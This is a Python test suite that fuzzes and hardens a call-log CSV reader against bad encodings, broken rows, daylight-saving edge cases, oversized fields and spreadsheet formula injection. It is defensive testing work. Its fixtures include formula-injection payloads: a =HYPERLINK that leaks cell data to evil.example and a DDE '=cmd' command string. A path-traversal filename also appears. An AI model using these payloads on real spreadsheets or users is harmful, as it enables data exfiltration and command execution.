"""Hostile call logs: `read_call_log` never crashes, names every bad row, keeps every good one.

Three layers:
- a property test with an independent oracle: random rows whose fields come from pools of
  known-valid and known-invalid values, written in a random encoding, column order and header
  spelling; the good rows (by the docs/design.md rules, computed here, not by the reader) must come
  back and every other row must be rejected with its row number and a reason;
- random bytes and random text: only `CallLogError`, never another exception;
- a corpus of hand-made bad exports (encodings, broken structure, dates, DST, duplicates,
  1 MB fields, formula injection in every column).

The CSVs callqa itself writes are checked for formula injection in test_hardening_privacy.py
(they need a night's output).
"""

from __future__ import annotations

import codecs
import csv
import io
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from pipeline.calls import CALL_LOG_COLUMNS, CallLog, read_call_log
from pipeline.errors import CallLogError

KEY = b"hardening-key"
HEADER = list(CALL_LOG_COLUMNS)
#: Encodings a phone system or a spreadsheet "Save as CSV" produces.
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16-le-bom", "utf-16-be-bom", "cp1252", "latin-1")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "=1+2",
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd",
)
HYPOTHESIS = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


def encode(text: str, encoding: str) -> bytes:
    if encoding == "utf-16-le-bom":
        return codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    if encoding == "utf-16-be-bom":
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    return text.encode(encoding)


def to_csv(header: list[str], rows: list[list[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def read_or_error(path: Path) -> CallLog | CallLogError:
    """The reader's answer; any exception other than CallLogError fails the test here."""
    try:
        return read_call_log(path, caller_hash_key=KEY)
    except CallLogError as exc:
        assert str(exc), "a CallLogError must say what is wrong"
        return exc


def assert_accounted(log: CallLog, data_rows: int) -> None:
    """Every data row is either a call or a rejection (with a reason), exactly once."""
    kept = [int(r) for r in log.calls["row"]]
    rejected = [r.row for r in log.rejected]
    assert all(r.reason for r in log.rejected)
    assert len(set(kept)) == len(kept)
    assert not set(kept) & set(rejected)
    assert all(2 <= r <= data_rows + 1 for r in kept)
    assert log.calls["call_id"].is_unique


# -- the oracle property test --------------------------------------------------------------

# A value, and whether docs/design.md's rules accept it. Timestamps: naive = Europe/London.
STARTED = [
    ("2025-03-31T09:14:05", True),
    ("2025-03-31 17:59:59", True),
    ("31/03/2025 09:14", True),
    ("31/03/2025 09:14:59", True),
    ("2025-03-31T08:14:05Z", True),
    ("2025-03-31T09:14:05+01:00", True),
    ("2025-10-26T01:30:00+01:00", True),  # ambiguous local time made exact by its offset
    ("2025-03-30T01:30:00", False),  # skipped by the spring clock change
    ("2025-10-26T01:30:00", False),  # happened twice in the autumn
    ("31/02/2025 10:00", False),
    ("2025-13-01T00:00:00", False),
    ("yesterday", False),
    ("=NOW()", False),
    ("", False),
]
DURATION = [
    ("120", True),
    ("0", True),
    ("61.5", True),
    ("02:03", True),
    ("1:02:03", True),
    ("-1", False),
    ("abc", False),
    ("nan", False),
    ("inf", False),
    ("=1+1", False),
]
DIRECTION = [("", True), ("inbound", True), ("OUT", True), ("sideways", False), ("=1", False)]
LAYOUT = [("", True), ("mono", True), ("Agent-Left", True), ("agent_right", True), ("quad", False)]
SAFE_TEXT = st.text(
    alphabet=st.sampled_from(list("abcXYZ019 _-,;\"'=+@|é£")), min_size=1, max_size=12
).map(str.strip)


@dataclass
class Row:
    fields: dict[str, str]
    ok: bool


@st.composite
def rows(draw: st.DrawFn) -> Row:
    call_id = draw(st.sampled_from(["", " ", *FORMULAS[:5], "C1", "C2", "C3", "C4"]) | SAFE_TEXT)
    started, started_ok = draw(st.sampled_from(STARTED))
    duration, duration_ok = draw(st.sampled_from([*DURATION, ("", True)]))
    recording = draw(st.sampled_from(["", "a.opus", "../x.opus", "=cmd.opus"]))
    direction, direction_ok = draw(st.sampled_from(DIRECTION))
    layout, layout_ok = draw(st.sampled_from(LAYOUT))
    agent = draw(st.sampled_from(["", " ", *FORMULAS]) | SAFE_TEXT)
    queue = draw(st.sampled_from(["", *FORMULAS]) | SAFE_TEXT)
    fields = {
        "call_id": call_id,
        "started_at": started,
        "duration_s": duration,
        "agent_id": agent,
        "team": draw(st.sampled_from(["", *FORMULAS]) | SAFE_TEXT),
        "queue": queue,
        "caller_number": draw(
            st.sampled_from(["", "withheld", "07700 900123", "+447700900123", *FORMULAS])
        ),
        "direction": direction,
        "recording": recording,
        "channel_layout": layout,
    }
    ok = (
        all(fields[c].strip() for c in ("call_id", "agent_id", "queue"))
        and started_ok
        and duration_ok
        and (duration != "" or recording != "")
        and direction_ok
        and layout_ok
    )
    return Row(fields, ok)


@st.composite
def headers(draw: st.DrawFn) -> list[str]:
    """The contract's columns in any order, any spelling an export uses, maybe with extras."""
    columns = draw(st.permutations(HEADER))
    spelled = [
        draw(st.sampled_from([c, c.upper(), c.replace("_", " ").title(), f" {c} "]))
        for c in columns
    ]
    extras = draw(st.lists(st.sampled_from(["notes", "=HYPERLINK(1)", "wrap_code"]), max_size=2))
    return spelled + list(dict.fromkeys(extras))


@HYPOTHESIS
@given(
    header=headers(),
    data=st.lists(rows(), min_size=1, max_size=12),
    encoding=st.sampled_from(ENCODINGS),
)
def test_good_rows_kept_bad_rows_named(
    tmp_path_factory: pytest.TempPathFactory, header: list[str], data: list[Row], encoding: str
) -> None:
    columns = [c.strip().lower().replace(" ", "_") for c in header]
    table = [[r.fields.get(c, "extra") for c in columns] for r in data]
    text = to_csv(header, table)
    if encoding in ("cp1252", "latin-1"):
        assume(all(ord(ch) < 0x80 or ch in "é£" for ch in text))
    path = write(tmp_path_factory.mktemp("prop"), "calls.csv", encode(text, encoding))

    # The oracle: docs/design.md's rules, then the first of each call_id wins.
    expected: dict[int, str] = {}
    seen: set[str] = set()
    for number, row in enumerate(data, start=2):
        key = row.fields["call_id"].strip()
        if row.ok and key not in seen:
            expected[number] = key
            seen.add(key)

    result = read_or_error(path)
    if not expected:
        assert isinstance(result, CallLogError)
        return
    assert isinstance(result, CallLog), f"{result}"
    assert_accounted(result, len(data))
    kept = dict(zip(result.calls["row"].astype(int), result.calls["call_id"], strict=True))
    assert set(kept) == set(expected)
    assert {r.row for r in result.rejected} == set(range(2, len(data) + 2)) - set(expected)
    if encoding.startswith("utf"):
        assert kept == expected
    for rejection in result.rejected:
        assert rejection.reason and len(rejection.reason) < 400
        # The clear number never reaches a message.
        assert "900123" not in rejection.reason


# -- random bytes and random text ------------------------------------------------------------


@HYPOTHESIS
@given(data=st.binary(max_size=2000))
def test_random_bytes_only_call_log_error(
    tmp_path_factory: pytest.TempPathFactory, data: bytes
) -> None:
    path = write(tmp_path_factory.mktemp("bytes"), "calls.csv", data)
    result = read_or_error(path)
    if isinstance(result, CallLog):
        assert_accounted(result, data.count(b"\n") + data.count(b"\r") + 1)


@HYPOTHESIS
@given(
    body=st.text(max_size=600),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16-le-bom", "utf-16-be-bom"]),
    with_header=st.booleans(),
)
def test_random_text_after_a_header_only_call_log_error(
    tmp_path_factory: pytest.TempPathFactory, body: str, encoding: str, with_header: bool
) -> None:
    text = (",".join(HEADER) + "\n" if with_header else "") + body
    try:
        data = encode(text, encoding)
    except UnicodeEncodeError:  # lone surrogates: no exporter can write them
        assume(False)
        return
    path = write(tmp_path_factory.mktemp("text"), "calls.csv", data)
    result = read_or_error(path)
    if isinstance(result, CallLog):
        assert_accounted(result, len(text.splitlines()) + 1)


@HYPOTHESIS
@given(data=st.binary(max_size=1500))
def test_random_bytes_as_parquet_only_call_log_error(
    tmp_path_factory: pytest.TempPathFactory, data: bytes
) -> None:
    path = write(tmp_path_factory.mktemp("pq"), "calls.parquet", b"PAR1" + data + b"PAR1")
    read_or_error(path)


# -- the corpus of bad exports -------------------------------------------------------------

GOOD = [
    "G1",
    "2025-03-31T09:14:05",
    "120",
    "agent_a",
    "revenues",
    "council_tax",
    "07700 900123",
    "inbound",
    "",
    "",
]


def good(name: str = "G1", /, **changes: str) -> list[str]:
    row = dict(zip(HEADER, GOOD, strict=True)) | {"call_id": name} | changes
    return [row[c] for c in HEADER]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_every_export_encoding(tmp_path: Path, encoding: str) -> None:
    text = to_csv(HEADER, [good("E1", team="Équipe £"), good("E2", started_at="bad")])
    log = read_or_error(write(tmp_path, "calls.csv", encode(text, encoding)))
    assert isinstance(log, CallLog)
    assert list(log.calls["call_id"]) == ["E1"]
    assert log.calls.loc[0, "team"] == "Équipe £"
    assert [(r.row, r.call_id) for r in log.rejected] == [(3, "E2")]


def test_utf16_without_bom_is_a_clear_error(tmp_path: Path) -> None:
    path = write(tmp_path, "calls.csv", to_csv(HEADER, [good()]).encode("utf-16-le"))
    result = read_or_error(path)
    # Either read correctly or refused with a message; never garbage rows.
    if isinstance(result, CallLog):
        assert list(result.calls["call_id"]) == ["G1"]


def test_mixed_encodings_in_one_file_keep_every_row(tmp_path: Path) -> None:
    head = to_csv(HEADER, [good("M1", team="café")]).encode("utf-8")
    tail = to_csv(HEADER, [good("M2", team="café")]).split("\r\n", 1)[1].encode("cp1252")
    log = read_or_error(write(tmp_path, "calls.csv", head + tail))
    assert isinstance(log, CallLog)
    assert sorted(log.calls["call_id"]) == ["M1", "M2"]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("empty", b""),
        ("whitespace", b" \r\n\t\n"),
        ("nul bytes", b"\x00" * 200),
        ("bom only", codecs.BOM_UTF8),
        ("utf-16 bom only", codecs.BOM_UTF16_LE),
        ("utf-16 odd length", codecs.BOM_UTF16_LE + ",".join(HEADER).encode("utf-16-le") + b"\0"),
        ("header only", ",".join(HEADER).encode()),
        ("header and blank lines", (",".join(HEADER) + "\n\n\n").encode()),
        ("not a call log", b"name,age\nbob,3\n"),
        ("missing required column", b"call_id,started_at,agent_id\nA,2025-03-31T10:00:00,a\n"),
        ("a png", b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
        ("a zip (xlsx)", b"PK\x03\x04" + bytes(300)),
        ("every row bad", to_csv(HEADER, [good("X", started_at="never")] * 3).encode()),
        ("only short rows", (",".join(HEADER) + "\nA,1\nB,2\n").encode()),
        ("unclosed quote", (",".join(HEADER) + '\n"A,2025-03-31T10:00:00,1,a,t,q,,,,\n').encode()),
    ],
)
def test_unusable_files_are_one_clear_error(tmp_path: Path, name: str, data: bytes) -> None:
    result = read_or_error(write(tmp_path, "calls.csv", data))
    assert isinstance(result, CallLogError), name
    assert "calls.csv" in str(result)


def test_unusable_parquet_and_missing_file(tmp_path: Path) -> None:
    assert isinstance(read_or_error(write(tmp_path, "calls.parquet", b"not parquet")), CallLogError)
    assert isinstance(read_or_error(tmp_path / "nowhere.csv"), CallLogError)
    assert isinstance(read_or_error(tmp_path), CallLogError)  # a folder, not a file


def test_all_rows_rejected_by_structure_says_so(tmp_path: Path) -> None:
    """Rows dropped for their field count are rejections, not 'a header but no rows'."""
    data = (",".join(HEADER) + "\nA,1\nB,2\n").encode()
    result = read_or_error(write(tmp_path, "calls.csv", data))
    assert isinstance(result, CallLogError)
    assert "row 2" in str(result) and "fields" in str(result)


def test_missing_and_extra_fields_per_row(tmp_path: Path) -> None:
    lines = [
        ",".join([*HEADER, "notes"]),
        ",".join([*good("A1"), "ok"]),
        "A2,2025-03-31T10:00:00,30",  # too few
        ",".join([*good("A3"), "x", "y", "z"]),  # too many
        ",".join([*good("A4"), "fine"]),
    ]
    log = read_or_error(write(tmp_path, "calls.csv", "\n".join(lines).encode()))
    assert isinstance(log, CallLog)
    assert list(log.calls["call_id"]) == ["A1", "A4"]
    assert [r.row for r in log.rejected] == [3, 4]
    assert all("fields" in r.reason for r in log.rejected)


def test_row_numbers_survive_quoted_newlines(tmp_path: Path) -> None:
    rows = [good("Q1", team="two\nlines"), good("Q2", duration_s="soon"), good("Q3")]
    text = to_csv(HEADER, rows).replace("Q3", "Q3,extra", 1)
    log = read_or_error(write(tmp_path, "calls.csv", text.encode()))
    assert isinstance(log, CallLog)
    assert list(log.calls["call_id"]) == ["Q1"]
    assert [(r.row, r.call_id) for r in log.rejected] == [(3, "Q2"), (4, None)]


@pytest.mark.parametrize(
    ("started_at", "why"),
    [
        ("2025-03-30T01:30:00", "clocks went forward"),
        ("30/03/2025 01:59", "clocks went forward"),
        ("2025-10-26T01:30:00", "clocks went back"),
        ("26/10/2025 01:00:00", "clocks went back"),
        ("31/02/2025 10:00", "not a date"),
        ("2025-02-29T10:00:00", "not a date"),
        ("2025-03-31T25:00:00", "not a date"),
        ("0000-01-01T00:00:00", "not a date"),
        ("9999-12-31T23:59:59", "not a date"),
        ("2025-03-31T10:00:00+25:00", "not a date"),
        ("1743412445", "not a date"),
        ("\U0001f600", "not a date"),
        ("", "empty"),
    ],
)
def test_bad_and_ambiguous_dates_are_named(tmp_path: Path, started_at: str, why: str) -> None:
    text = to_csv(HEADER, [good("OK"), good("BAD", started_at=started_at)])
    log = read_or_error(write(tmp_path, "calls.csv", text.encode()))
    assert isinstance(log, CallLog)
    assert list(log.calls["call_id"]) == ["OK"]
    (rejected,) = log.rejected
    assert rejected.row == 3
    assert why in rejected.reason


def test_dst_edges_that_exist_are_placed_exactly(tmp_path: Path) -> None:
    rows = [
        good("S1", started_at="2025-03-30T00:59:59"),  # GMT, just before the gap
        good("S2", started_at="2025-03-30T02:00:00"),  # BST, just after it
        good("S3", started_at="2025-10-26T01:30:00+01:00"),  # first 01:30 (BST)
        good("S4", started_at="2025-10-26T01:30:00+00:00"),  # second 01:30 (GMT)
        good("S5", started_at="2025-10-26T02:00:00"),
    ]
    log = read_or_error(write(tmp_path, "calls.csv", to_csv(HEADER, rows).encode()))
    assert isinstance(log, CallLog) and not log.rejected
    got = dict(zip(log.calls["call_id"], log.calls["started_at"], strict=True))
    assert got["S1"] == pd.Timestamp("2025-03-30T00:59:59Z")
    assert got["S2"] == pd.Timestamp("2025-03-30T01:00:00Z")
    assert got["S4"] - got["S3"] == pd.Timedelta(hours=1)
    assert got["S5"] == pd.Timestamp("2025-10-26T02:00:00Z")


def test_day_first_dates_are_read_the_uk_way(tmp_path: Path) -> None:
    """03/04/2025 is 3 April in a UK export, never 4 March."""
    text = to_csv(HEADER, [good("D1", started_at="03/04/2025 10:00")])
    log = read_or_error(write(tmp_path, "calls.csv", text.encode()))
    assert isinstance(log, CallLog)
    assert str(log.calls.loc[0, "call_date"]) == "2025-04-03"


def test_duplicate_ids_name_both_rows(tmp_path: Path) -> None:
    rows = [good("D1"), good("D2"), good("D1", agent_id="other"), good(" D1 ")]
    log = read_or_error(write(tmp_path, "calls.csv", to_csv(HEADER, rows).encode()))
    assert isinstance(log, CallLog)
    assert list(log.calls["call_id"]) == ["D1", "D2"]
    assert [(r.row, r.reason) for r in log.rejected] == [
        (4, "duplicate call_id: also on row 2"),
        (5, "duplicate call_id: also on row 2"),
    ]


@pytest.mark.parametrize("column", HEADER)
def test_one_megabyte_field_in_any_column(tmp_path: Path, column: str) -> None:
    huge = "x" * 1_000_000
    rows = [good("B1"), good("B2", **{column: huge}), good("B3")]
    path = write(tmp_path, "calls.csv", to_csv(HEADER, rows).encode())
    log = read_or_error(path)
    assert isinstance(log, CallLog)
    assert {"B1", "B3"} <= set(log.calls["call_id"])
    assert_accounted(log, 3)
    for rejected in log.rejected:
        assert len(str(rejected)) < 1000, "a message must not quote a megabyte"


@pytest.mark.parametrize("column", HEADER)
@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_values_in_any_column_do_not_break_reading(
    tmp_path: Path, column: str, formula: str
) -> None:
    rows = [good("F1"), good("F2", **{column: formula})]
    log = read_or_error(write(tmp_path, "calls.csv", to_csv(HEADER, rows).encode()))
    assert isinstance(log, CallLog)
    assert_accounted(log, 2)
    assert "F1" in set(log.calls["call_id"])
    if column == "caller_number":
        # Whatever the cell held, only a hash (or nothing) leaves the reader.
        assert "caller_number" not in log.calls.columns
        assert set(log.calls["caller_hash"].dropna().str.len()) <= {64}


def test_other_delimiters_and_line_endings(tmp_path: Path) -> None:
    for delimiter, ending in ((";", "\r\n"), ("\t", "\n"), ("|", "\r")):
        text = to_csv(HEADER, [good("L1"), good("L2")], delimiter=delimiter)
        text = text.replace("\r\n", ending)
        log = read_or_error(write(tmp_path, "calls.csv", text.encode()))
        assert isinstance(log, CallLog), (delimiter, ending, log)
        assert list(log.calls["call_id"]) == ["L1", "L2"], (delimiter, ending)


# -- the CSVs callqa writes ------------------------------------------------------------------

_INJECTABLE = ("=", "+", "-", "@", "\t", "\r")


def injectable_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula (plain numbers such as -0.5 are fine)."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(_INJECTABLE):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def test_no_csv_callqa_writes_starts_a_formula(hardening_night) -> None:  # type: ignore[no-untyped-def]
    """The hostile night carries formula values in call_id, team, agent_id, queue and paths."""
    from typer.testing import CliRunner

    from callqa.cli import app
    from pipeline.store import TABLES

    out = hardening_night.run.out
    assert hardening_night.run.returncode == 0, hardening_night.run.stderr[-3000:]
    written: dict[str, str] = {}
    for name in TABLES:
        result = CliRunner().invoke(
            app, ["sql", "--out", str(out), "--csv", f"SELECT * FROM {name}"]
        )
        if result.exit_code == 0:
            written[f"callqa sql {name}"] = result.stdout
        else:  # restricted/ is not exposed to SQL; reports are not made by this night
            assert "does not exist" in str(result.exception), result.exception
    assert {"callqa sql scorecards", "callqa sql failures", "callqa sql samples"} <= set(written)
    assert "=HYPERLINK" in written["callqa sql scorecards"].replace("'=", "=")
    for root in (out, hardening_night.pack):
        for path in root.rglob("*.csv"):
            written[str(path)] = path.read_text(encoding="utf-8")
    assert any(k.endswith("index.csv") for k in written), "the scrutiny pack has no index.csv"
    found = {where: injectable_cells(text) for where, text in written.items()}
    assert {k: v for k, v in found.items() if v} == {}
